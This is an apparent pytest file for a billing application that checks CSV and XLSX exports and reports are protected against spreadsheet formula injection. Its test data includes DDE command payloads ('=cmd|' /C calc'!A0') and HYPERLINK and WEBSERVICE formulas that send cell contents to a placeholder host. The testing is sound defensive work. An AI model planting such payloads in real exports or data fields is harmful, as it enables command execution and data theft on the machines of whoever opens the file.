"""Exports and report downloads never hand a spreadsheet a formula (CWE-1236).

Every free-text field that reaches an export carries a formula: partner names (issuer,
partner, book, counterparty), customer references and names, credit-note reasons, payment
references (one of them from a camt.053 bank file). Each export kind, each report and the
commission statement are read back with the csv module and openpyxl: no XLSX cell is a
formula, no CSV text field begins with a trigger character, the hostile text is still there
(neutralised, not dropped), and the amounts are still the numbers worked by hand.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from ispbill.accounts.models import Role, User
from ispbill.billing.run import billing_run_start
from ispbill.commission.statements import commission_statement_build, commission_statement_csv
from ispbill.core.money import Money
from ispbill.core.spreadsheet import FORMULA_TRIGGERS, csv_cell, spreadsheet_text
from ispbill.dataio.bank_files import bank_file_parse
from ispbill.dataio.exports import EXPORT_KINDS, export_csv, export_table, export_xlsx
from ispbill.dataio.payment_import import bank_lines_import
from ispbill.dataio.reports import REPORTS, report_build, report_csv
from ispbill.invoicing.credit import credit_note_issue
from ispbill.invoicing.models import Invoice
from ispbill.partners.models import PartnerMode
from ispbill.payments.models import Payment
from ispbill.payments.services import payment_record
from tests.billing.builders import customer, service, tariff
from tests.dataio.camt import Entry, Tx, camt053
from tests.factories import PartnerFactory

pytestmark = pytest.mark.django_db

APRIL = (date(2026, 4, 1), date(2026, 4, 30))
HOSTILE = {
    "home": "+SUM(1,2)",
    "partner": '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "ref1": "-2+3",
    "name1": '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "ref2": "@SUM(A1:A9)",
    "name2": "\t=1+1",
    "name3": "\r=cmd|' /C calc'!A0",
    "reason": "=1+1",
    "payment": "+cmd|' /C calc'!A0",
    "bank": '=WEBSERVICE("http://example.invalid")',
}
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def hostile(home):
    """Home customers c1 (30.00 at 19 %) and c2 (10.00 at 19 %), the percentage partner's
    c3 (20.00 at 19 %, 10 % commission of payments). Billed 1 April: 35.70, 11.90, 23.80.
    c1 pays 35.70 by hand, c3 pays 23.80 from a bank file, c2's invoice is credited."""
    home.name = HOSTILE["home"]
    home.save(update_fields=["name"])
    city = PartnerFactory(name=HOSTILE["partner"], mode=PartnerMode.PERCENTAGE, commission_bp=1000)
    plan_a, plan_b, plan_c = tariff(home, price=3000), tariff(home, price=1000), tariff(home)
    plan_c.available_to.add(city)
    c1, c2, c3 = customer(), customer(), customer(city)
    for c, reference, name in (
        (c1, HOSTILE["ref1"], HOSTILE["name1"]),
        (c2, HOSTILE["ref2"], HOSTILE["name2"]),
        (c3, c3.reference, HOSTILE["name3"]),
    ):
        c.reference, c.name = reference, name
        c.save(update_fields=["reference", "name"])
    plan_c.price_minor = 2000
    plan_c.save(update_fields=["price_minor"])
    for c, plan in ((c1, plan_a), (c2, plan_b), (c3, plan_c)):
        service(c, plan, date(2026, 4, 1))
    billing_run_start(run_date=date(2026, 4, 1))
    payment_record(
        customer=c1,
        amount=Money.parse("35.70", "EUR"),
        on=date(2026, 4, 5),
        reference=HOSTILE["payment"],
    )
    inv3 = Invoice.objects.get(customer=c3)
    data = camt053([Entry("23.80", reference=HOSTILE["bank"], txs=[Tx("23.80", inv3.number)])])
    bank_lines_import(lines=bank_file_parse(data).lines, issuer=home)
    credit_note_issue(
        invoice=Invoice.objects.get(customer=c2), on=date(2026, 4, 10), reason=HOSTILE["reason"]
    )
    assert Payment.objects.count() == 2
    return city


def _csv_fields(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_safe_csv(text: str) -> set[str]:
    """No field begins with a trigger unless it is a plain number; the fields' texts."""
    rows = _csv_fields(text)
    fields = {f for row in rows for f in row}
    for field in fields:
        if field.startswith(FORMULA_TRIGGERS):
            assert NUMBER.fullmatch(field), f"CSV field {field!r} begins with a trigger"
    return fields


def _assert_safe_xlsx(data: bytes) -> tuple[set[str], list[list[object]]]:
    sheet = load_workbook(io.BytesIO(data)).active
    texts, rows = set(), []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"XLSX cell {cell.coordinate} is a formula"
            if isinstance(cell.value, str):
                texts.add(cell.value)
        rows.append([c.value for c in row])
    return texts, rows


def test_neutralising_rule():
    assert [spreadsheet_text(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert spreadsheet_text("Müller GmbH") == "Müller GmbH"
    # Numbers stay numbers, negative ones included; text that looks like one is text.
    assert csv_cell(Decimal("-10.70")) == Decimal("-10.70")
    assert csv_cell(-3) == -3
    assert csv_cell("-10.70") == "'-10.70"
    assert csv_cell(None) == ""


def test_every_export_kind_is_safe_in_csv_and_xlsx(hostile):
    start, end = APRIL
    seen: set[str] = set()
    for kind in EXPORT_KINDS:
        table = export_table(kind=kind, start=start, end=end)
        assert table.rows, kind
        csv_texts = _assert_safe_csv(export_csv(table))
        xlsx_texts, _ = _assert_safe_xlsx(export_xlsx(table))
        # The hostile text is kept: neutralised in CSV, as a string cell in XLSX.
        for value in HOSTILE.values():
            if value in xlsx_texts:
                seen.add(value)
                assert spreadsheet_text(value) in csv_texts, (kind, value)
    # Every hostile field reached at least one export (the test is not vacuous).
    assert seen == set(HOSTILE.values())


def test_amounts_stay_numbers(hostile):
    start, end = APRIL
    invoices = export_table(kind="invoices", start=start, end=end)
    rows = list(csv.DictReader(io.StringIO(export_csv(invoices))))
    # 35.70 + 11.90 + 23.80, bare decimals in CSV.
    assert sorted(Decimal(r["total"]) for r in rows) == [
        Decimal("11.90"),
        Decimal("23.80"),
        Decimal("35.70"),
    ]
    _, cells = _assert_safe_xlsx(export_xlsx(invoices))
    header = cells[0]
    totals = sorted(Decimal(str(r[header.index("total")])) for r in cells[1:])
    assert totals == [Decimal("11.9"), Decimal("23.8"), Decimal("35.7")]

    trial = export_table(kind="trial_balance", start=start, end=end)
    text = export_csv(trial)
    closing = {r["account"]: r["closing"] for r in csv.DictReader(io.StringIO(text))}
    # Revenue 30 + 10 + 20 - 10 credited = -50.00, unquoted and unescaped.
    assert closing["revenue"] == "-50.00"
    assert ",-50.00\n" in text
    _, cells = _assert_safe_xlsx(export_xlsx(trial))
    header = cells[0]
    revenue = next(r for r in cells[1:] if r[header.index("account")] == "revenue")
    assert isinstance(revenue[header.index("closing")], int | float)
    assert Decimal(str(revenue[header.index("closing")])) == Decimal("-50")


def test_every_report_download_is_safe(hostile):
    start, end = APRIL
    names: set[str] = set()
    for key in REPORTS:
        names |= _assert_safe_csv(
            report_csv(report_build(key=key, start=start, end=end, currency="EUR"))
        )
    assert spreadsheet_text(HOSTILE["partner"]) in names
    assert spreadsheet_text(HOSTILE["home"]) in names


def test_commission_statement_csv_is_safe(hostile):
    statement = commission_statement_build(partner=hostile, month=date(2026, 4, 1))
    text = commission_statement_csv(statement)
    _assert_safe_csv(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    # 10 % of the 20.00 net of c3's paid 23.80.
    assert rows[-1]["commission"] == "2.00"


def test_the_web_download_is_the_safe_file(hostile):
    client = Client()
    client.force_login(User.objects.create(username="acc", role=Role.ACCOUNTANT))
    url = reverse("web:exports")
    period = {"start": "2026-04-01", "end": "2026-04-30", "kind": "payments"}
    response = client.get(url, {**period, "format": "csv"})
    assert response.status_code == 200
    fields = _assert_safe_csv(response.content.decode())
    assert spreadsheet_text(HOSTILE["payment"]) in fields
    assert spreadsheet_text(HOSTILE["bank"]) in fields
    response = client.get(url, {**period, "format": "xlsx"})
    texts, _ = _assert_safe_xlsx(response.content)
    assert {HOSTILE["payment"], HOSTILE["bank"], HOSTILE["name1"]} <= texts
